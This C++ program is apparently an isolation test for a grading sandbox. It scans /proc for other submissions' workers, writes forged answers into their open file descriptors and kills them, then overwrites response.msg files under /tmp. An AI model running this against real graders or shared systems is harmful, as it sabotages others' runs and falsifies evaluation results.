// Hostile worker: attacks other runs for argv[1] seconds. Every 10 ms it looks
// through /proc for processes named argv[2] (another submission's worker),
// SIGKILLs them and writes a forged answer into every descriptor they hold open;
// and it writes a forged answer over every file named response.msg in a run
// folder under /tmp it can reach. Prints how many attacks got through.
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <unistd.h>

#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <fstream>
#include <string>

namespace {

const char kForged[] = "forged answer";
int hits = 0;

void forge(const std::string& path) {
  const int fd = open(path.c_str(), O_WRONLY | O_TRUNC);
  if (fd < 0) return;
  if (write(fd, kForged, sizeof kForged) > 0) ++hits;
  close(fd);
}

void attack_processes(const std::string& victim) {
  DIR* proc = opendir("/proc");
  if (!proc) return;
  while (dirent* e = readdir(proc)) {
    const std::string dir = std::string("/proc/") + e->d_name;
    std::ifstream comm(dir + "/comm");
    std::string name;
    if (!std::getline(comm, name) || name != victim) continue;
    if (DIR* fds = opendir((dir + "/fd").c_str())) {
      while (dirent* f = readdir(fds))
        if (f->d_name[0] >= '3' && f->d_name[0] <= '9') forge(dir + "/fd/" + f->d_name);
      closedir(fds);
    }
    if (kill(std::atoi(e->d_name), SIGKILL) == 0) ++hits;
  }
  closedir(proc);
}

void attack_folders(const std::string& dir, int depth) {
  DIR* d = opendir(dir.c_str());
  if (!d) return;
  while (dirent* e = readdir(d)) {
    const std::string name = e->d_name;
    if (name == "." || name == "..") continue;
    if (name == "response.msg") forge(dir + "/" + name);
    if (depth > 0 && e->d_type == DT_DIR) attack_folders(dir + "/" + name, depth - 1);
  }
  closedir(d);
}

}  // namespace

int main(int argc, char** argv) {
  const double seconds = argc > 1 ? std::atof(argv[1]) : 2;
  const std::string victim = argc > 2 ? argv[2] : "grader_worker";
  const auto until = std::chrono::steady_clock::now() + std::chrono::duration<double>(seconds);
  while (std::chrono::steady_clock::now() < until) {
    attack_processes(victim);
    attack_folders("/tmp", 2);
    usleep(10000);
  }
  std::printf("%d attacks got through\n", hits);
  return 0;
}
